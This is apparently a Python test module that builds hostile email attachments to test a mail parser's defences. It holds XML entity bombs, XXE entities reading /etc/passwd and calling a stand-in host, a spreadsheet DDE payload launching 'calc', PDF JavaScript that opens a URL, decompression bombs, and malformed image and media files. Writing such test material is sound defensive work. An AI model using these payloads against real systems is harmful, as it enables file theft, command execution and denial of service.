"""Hostile mails with documents, pictures and recordings. The same bytes on every run."""

# ruff: noqa: E501 - one case a line

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.hostile.containers import sent, zipped

Case = tuple[str, bytes]
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 20}">' for n in range(12))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://203.0.113.1/"><!ENTITY % c SYSTEM "http://203.0.113.1/d">%c;]>'
MARKUP = {
    "laughs": LAUGHS + "<r>&m;</r>",
    "entities from outside": OUTSIDE + "<r>&a;&b;</r>",
    "depth": "<a>" * 200_000,
    "attributes": "<a " + " ".join(f'b{n}="c"' for n in range(200_000)) + "/>",
    "tags": "<a/>" * 2_000_000,
    "namespaces": "".join(f'<a xmlns:n{n}="u{n}">' for n in range(20_000)),
    "a long name": "<" + "a" * 5_000_000 + "/>",
    "nothing": "",
    "bytes": "\x00\x01\x02",
    "text of 30 MB": "<w:t>" + "words " * 5_000_000 + "</w:t>",
}
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
PLACES = {
    "a.docx": ("word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"),
    "a.xlsx": ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"),
    "a.pptx": ("ppt/slides/slide1.xml",),
    "a.odt": ("content.xml",),
    "a.ofd": ("OFD.xml", "Doc_0/Pages/Page_0/Content.xml"),
}


def office() -> Iterator[Case]:
    for name, places in PLACES.items():
        for place in places:
            for kind, markup in MARKUP.items():
                base = {
                    "[Content_Types].xml": TYPES,
                    "mimetype": "application/vnd.oasis.opendocument.text",
                    places[0]: "<a/>",
                }
                yield f"{name}: {kind} in {place}", sent(name, zipped(({**base, place: markup}).items()))
    for kind, markup in MARKUP.items():
        for name in ("a.xml", "a.html", "a.svg", "a.fodt", "a.xls"):
            yield f"{name}: {kind}", sent(name, markup.encode())


def sheets() -> Iterator[Case]:
    row = (
        '<row r="{0}"><c r="{1}{0}" t="str"><f>HYPERLINK("http://203.0.113.1/")</f><v>=cmd|\'/c calc\'!A1</v></c></row>'
    )
    for name, cells in {
        "far cells": row.format(1, "A") + row.format(1_048_576, "XFD"),
        "rows backwards": "".join(row.format(n, "A") for n in range(50_000, 0, -1)),
        "a column beyond": row.format(1, "ZZZZZZZ"),
        "a row below zero": row.format(-1, "A"),
        "numbers": "".join(f'<row r="{n}"><c r="A{n}"><v>{"9" * 300}</v></c></row>' for n in range(1, 3000)),
        "dates": "".join(f'<row r="{n}"><c r="A{n}" s="1" t="d"><v>99999-99-99</v></c></row>' for n in range(1, 3000)),
    }.items():
        out = io.BytesIO(zipped(list(BOOK.items())))
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as book:
            book.writestr(
                "xl/worksheets/sheet1.xml",
                f'<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData></worksheet>',
            )
        yield f"a sheet with {name}", sent("a.xlsx", out.getvalue())
    for name, text in {"commas": "," * 8_000_000, "lines": "\n" * 8_000_000, "quotes": '"' * 5_000_001, "an open quote": '"' + "a,\n" * 2_000_000,
                       "tabs": "a\t" * 3_000_000, "a long field": "a" * 9_000_000}.items():  # fmt: skip
        yield f"a .csv of {name}", sent("a.csv", text.encode())


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BOOK = {
    "[Content_Types].xml": TYPES,
    "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def pdfs() -> Iterator[Case]:
    bomb = zlib.compress(b"BT (words) Tj ET\n" * 6_000_000)
    for name, body in {
        "pages in a circle": b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>endobj\n",
        "a count below zero": b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count -1>>endobj\n3 0 obj<</Type/Page/Parent 3 0 R>>endobj\n",
        "20,000 pages": b"2 0 obj<</Type/Pages/Count 20000/Kids[" + b"3 0 R " * 20_000 + b"]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        "a stream of 100 MB": b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (len(bomb), bomb),
        "deep arrays": b"2 0 obj" + b"[" * 500_000,
        "a page of a million points": b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>endobj\n",
        "a script": b"2 0 obj<</Type/Pages/Kids[]/Count 0/OpenAction<</S/JavaScript/JS(app.launchURL('http://203.0.113.1/'))>>>>endobj\n",
    }.items():  # fmt: skip
        yield (
            f"a PDF with {name}",
            sent(
                "a.pdf",
                b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF",
            ),
        )
    yield "an RTF in 20,000 braces", sent("a.rtf", b"{\\rtf1" + b"{" * 20_000)
    yield (
        "an RTF with a picture of -1 bytes",
        sent("a.rtf", b"{\\rtf1{\\pict\\bin-1 x}{\\object\\objdata " + b"0" * 100_000 + b"}}"),
    )


def png(width: int, height: int, *chunks: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + b"".join(chunks)
        + chunk(b"IDAT", zlib.compress(bytes(50_000_000)))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int, height: int, exif: bytes = b"") -> bytes:
    app = b"\xff\xe1" + struct.pack(">H", len(exif) + 8) + b"Exif\0\0" + exif if exif else b""
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\1\x22\0\2\x11\1\3\x11\1"
    return b"\xff\xd8" + app + frame + b"\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0\x3f\0" + b"\x12\x34" * 1000 + b"\xff\xd9"


def pictures() -> Iterator[Case]:
    for width, height in ((65_500, 65_500), (1, 2**31 - 1), (0, 0), (30_000, 4_000)):
        yield f"a PNG of {width} x {height}", sent("a.png", png(width, height))
        yield f"a JPEG of {width} x {height}", sent("a.jpg", jpeg(width & 0xFFFF, height & 0xFFFF))
        yield (
            f"a BMP of {width} x {height}",
            sent(
                "a.bmp", b"BM" + struct.pack("<IIIIiiHHIIIIII", 99, 0, 54, 40, width, -height, 1, 24, 0, 0, 0, 0, 0, 0)
            ),
        )
        yield (
            f"a GIF of {width} x {height}",
            sent(
                "a.gif",
                b"GIF89a"
                + struct.pack("<HH", width & 0xFFFF, height & 0xFFFF)
                + b"\x80\0\0"
                + bytes(6)
                + b"\x2c" * 90_000,
            ),
        )
        yield (
            f"a WebP of {width} x {height}",
            sent(
                "a.webp",
                b"RIFF\xff\xff\xff\xffWEBPVP8X\n\0\0\0\x10\0\0\0"
                + struct.pack("<I", width)[:3]
                + struct.pack("<I", height & 0xFFFFFF)[:3],
            ),
        )
    loop = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    many = b"MM\0*\0\0\0\x08" + struct.pack(">H", 5000) + struct.pack(">HHII", 306, 2, 2**31, 8) * 5000
    for name, exif in {
        "a circle": loop,
        "5,000 dates of 2 GB": many,
        "nothing": b"II",
        "noise": bytes(range(256)) * 200,
    }.items():
        yield f"a JPEG whose EXIF is {name}", sent("a.jpg", jpeg(400, 300, exif))
        yield f"a TIFF that is {name}", sent("a.tif", exif if len(exif) > 8 else b"II*\0" + exif)
    for name, boxes in {"boxes of nothing": struct.pack(">I4s", 0, b"moov") * 50_000, "boxes of one byte": struct.pack(">I4s", 1, b"mdat") * 50_000,
                        "boxes in boxes": b"".join(struct.pack(">I4s", 8 * (5000 - n), b"moov") for n in range(5000)),
                        "a time of no scale": struct.pack(">I4sI4s", 116, b"moov", 108, b"mvhd") + bytes(100)}.items():  # fmt: skip
        yield f"a film of {name}", sent("a.mp4", struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + boxes)
        yield f"a HEIC of {name}", sent("a.heic", struct.pack(">I4s4sI", 16, b"ftyp", b"heic", 0) + boxes)
    for ending, start in (
        ("amr", b"#!AMR\n"),
        ("mp3", b"ID3\4\0\0\x7f\x7f\x7f\x7f"),
        ("wav", b"RIFF\xff\xff\xff\xffWAVEfmt \0\0\0\0"),
        ("mkv", b"\x1a\x45\xdf\xa3"),
    ):
        yield f"an .{ending} of noise", sent(f"a.{ending}", start + b"\x3c\xff" * 500_000)
